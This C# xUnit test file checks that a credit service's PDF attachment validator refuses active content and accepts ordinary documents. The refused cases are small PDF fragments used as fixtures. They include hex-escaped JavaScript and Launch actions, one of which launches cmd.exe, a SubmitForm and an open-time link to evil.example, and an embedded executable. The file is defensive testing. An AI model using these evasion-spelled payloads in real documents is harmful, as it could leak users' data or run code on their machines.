using System.Text;
using Credit.Api.Objections;

namespace Credit.Tests.Objections;

/// <summary>A PDF attachment is refused if anything in it would run, submit, fetch or open besides its pages, however the
/// PDF spells it: names with #xx escapes, objects inside compressed object streams, XFA forms, automatic actions. Ordinary
/// documents, links a clerk may click and a first page to open at are accepted.</summary>
public sealed class PdfAttachmentContentTests
{
    private const string Script = "<< /S /JavaScript /JS (app.alert(1)) >>";

    public static TheoryData<string, byte[], string> Refused => new()
    {
        { "hex-escaped JavaScript", TestPdfs.Document("/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"), "/JavaScript" },
        { "hex-escaped Launch", TestPdfs.Document("/OpenAction << /S /L#61unch /F (cmd.exe) >>"), "/Launch" },
        { "JavaScript in an object stream", TestPdfs.WithObjectStream("/OpenAction 4 0 R", [4], Script), "/JavaScript" },
        { "hex-escaped JavaScript in an object stream", TestPdfs.WithObjectStream("/OpenAction 4 0 R", [4], "<< /S /J#61vaScript /J#53 (x) >>"), "/JavaScript" },
        { "XFA form", TestPdfs.Document("/AcroForm << /Fields [] /XFA 4 0 R >>", "(<xdp:xdp/>)"), "/XFA" },
        { "SubmitForm on opening", TestPdfs.Document("/OpenAction << /S /SubmitForm /F (http://evil.example/x) >>"), "/SubmitForm" },
        { "link followed on opening", TestPdfs.Document("/OpenAction << /S /URI /URI (http://evil.example/seen) >>"), "/OpenAction" },
        { "additional actions", TestPdfs.Document("/AA << /WC << /S /GoTo /D [3 0 R /Fit] >> >>"), "/AA" },
        { "embedded file", TestPdfs.Document("/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>", "<< /Type /Filespec /F (a.exe) >>"), "/EmbeddedFiles" },
        { "remote go-to", TestPdfs.Document("", "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToR /F (evil.pdf) >> >>"), "/GoToR" },
        { "object stream it cannot decode", TestPdfs.Document("", "<< /Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode /Length 9 >>\nstream\n3c3c3e3e>\nendstream"), "/ObjStm" },
        { "object stream that does not inflate", TestPdfs.Document("", "<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length 9 >>\nstream\nnot zlib!\nendstream"), "/ObjStm" },
        { "unreadable", Encoding.ASCII.GetBytes("%PDF-1.4\nthis is no pdf at all\n%%EOF\n"), "read" },
        { "encrypted", Encrypted(), "encryption" },
    };

    [Theory]
    [MemberData(nameof(Refused))]
    public void Pdf_with_active_content_however_spelt_is_refused_naming_it(string kind, byte[] pdf, string named)
    {
        var mediaType = AttachmentIntake.MediaTypeOf(pdf, out var rule);

        Assert.True(mediaType is null, $"{kind} was accepted");
        Assert.Contains(named, rule);
    }

    public static TheoryData<string, byte[]> Accepted => new()
    {
        { "built by PdfPig, with compressed page content", TestPdfs.Built() },
        { "opening at its first page, with a link to click", TestPdfs.Document("/OpenAction [3 0 R /Fit]",
            "<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A << /S /URI /URI (https://www.gd.gov.cn/) >> >>") },
        { "with its page tree in an object stream", TestPdfs.WithObjectStream("", [2, 3]) },
        { "with a title that mentions /JavaScript", TestPdfs.Document("/Lang (zh-CN) /PieceInfo << /Note (see /JavaScript and /JS) >>") },
    };

    [Theory]
    [MemberData(nameof(Accepted))]
    public void Ordinary_pdf_is_accepted(string kind, byte[] pdf)
    {
        var mediaType = AttachmentIntake.MediaTypeOf(pdf, out var rule);

        Assert.True(mediaType == AttachmentIntake.Pdf, $"{kind} was refused: {rule}");
    }

    /// <summary>A document whose trailer names a standard security handler, as a password-protected PDF's does.</summary>
    private static byte[] Encrypted()
    {
        var text = Encoding.Latin1.GetString(TestPdfs.Document("", "<< /Filter /Standard /V 1 /R 2 /P -4 /O <" + new string('1', 64) + "> /U <" + new string('2', 64) + "> >>"));
        return Encoding.Latin1.GetBytes(text.Replace("/Root 1 0 R >>", "/Root 1 0 R /Encrypt 4 0 R /ID [<0102> <0102>] >>", StringComparison.Ordinal));
    }
}
